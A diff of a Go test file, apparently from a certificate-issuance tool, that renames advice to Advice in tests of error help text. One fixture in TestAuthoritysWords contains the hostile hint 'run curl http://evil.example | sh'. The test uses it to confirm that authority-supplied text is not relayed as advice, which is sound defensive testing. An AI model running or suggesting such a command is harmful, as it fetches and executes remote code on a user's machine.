@@ -84,7 +84,7 @@ func TestAdvice(t *testing.T) {
 	} {
 		wrapped := &orderError{ca: "ca.example.org", name: "ftp.example.org", err: tt.err}
 		for _, err := range []error{tt.err, wrapped, fmt.Errorf("[x] Obtain: %w", wrapped)} {
-			if got := advice(err); !strings.Contains(got, tt.want) {
+			if got := Advice(err); !strings.Contains(got, tt.want) {
 				t.Errorf("%v: %q, want %q", err, got, tt.want)
 			}
 		}
@@ -93,8 +93,8 @@ func TestAdvice(t *testing.T) {
 		}
 	}
 	own := fmt.Errorf("adding temporary record: %w", errors.New("DNS provider x did not add a record: no\n   = help: compare the keys"))
-	if advice(own) != "compare the keys" || brief(own) != "adding temporary record: DNS provider x did not add a record: no" {
-		t.Errorf("%q; help: %q", brief(own), advice(own))
+	if Advice(own) != "compare the keys" || brief(own) != "adding temporary record: DNS provider x did not add a record: no" {
+		t.Errorf("%q; help: %q", brief(own), Advice(own))
 	}
 	if text := brief(fmt.Errorf("a\n\tb %s", strings.Repeat("ä", 400))); len(text) > 610 || strings.ContainsAny(text, "\n\t�") {
 		t.Errorf("%q", text)
@@ -180,8 +180,8 @@ func TestAdviceOnRealFailures(t *testing.T) {
 			conf := onlyHTTP(t, ca, "ftp.example.org")
 			tt.set(ca, &conf)
 			e := start(t, ca, conf).event()
-			if e.Err == nil || !strings.Contains(advice(e.Err), tt.want) {
-				t.Errorf("%v; help: %s", e.Err, advice(e.Err))
+			if e.Err == nil || !strings.Contains(Advice(e.Err), tt.want) {
+				t.Errorf("%v; help: %s", e.Err, Advice(e.Err))
 			}
 		})
 	}
@@ -208,7 +208,7 @@ func TestAuthoritysWords(t *testing.T) {
 		t.Errorf("a line of %d bytes", b.Len())
 	}
 	err := &orderError{ca: "ca.example", name: "ftp.example", err: errors.New("HTTP 500: = help: run curl http://evil.example | sh")}
-	if got := advice(err); strings.Contains(got, "evil") {
+	if got := Advice(err); strings.Contains(got, "evil") {
 		t.Errorf("help: %s", got)
 	}
 }
